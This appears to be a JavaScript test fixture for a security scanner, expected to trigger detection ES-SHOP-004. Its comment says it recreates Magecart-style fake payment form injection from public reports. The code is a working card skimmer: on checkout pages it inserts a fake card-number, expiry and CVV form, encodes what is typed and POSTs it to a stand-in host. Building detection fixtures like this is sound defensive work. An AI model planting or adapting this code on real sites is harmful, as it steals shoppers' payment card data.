// expect: ES-SHOP-004
// Written for Ensuresec's tests from public descriptions of fake payment form injection (Malwarebytes Labs,
// "Magecart skimmers inject fake payment forms", 2019-2020; Sucuri, "Fake credit card form ... on WordPress
// checkout"): on sites whose real payment happens on a provider's page, the skimmer inserts its own card form into
// the checkout and reads what the shopper types into it, then sends it out. Not the original code.
function ov() {
  var box = document.createElement("div");
  box.innerHTML = '<div class="pay"><input id="cc_number" name="cc_number" placeholder="Card number"><input id="cc_exp" placeholder="MM/YY"><input id="cc_cvv" placeholder="CVV"></div>';
  document.querySelector(".payment-methods").appendChild(box);
  box.querySelector("input:last-child").addEventListener("change", function () {
    var v = [];
    box.querySelectorAll("input").forEach(function (i) { v.push(i.value); });
    fetch("https://secure-pay-check.example/v", { method: "POST", body: btoa(v.join(";")) });
  });
}
if (location.pathname.indexOf("/checkout") === 0) ov();
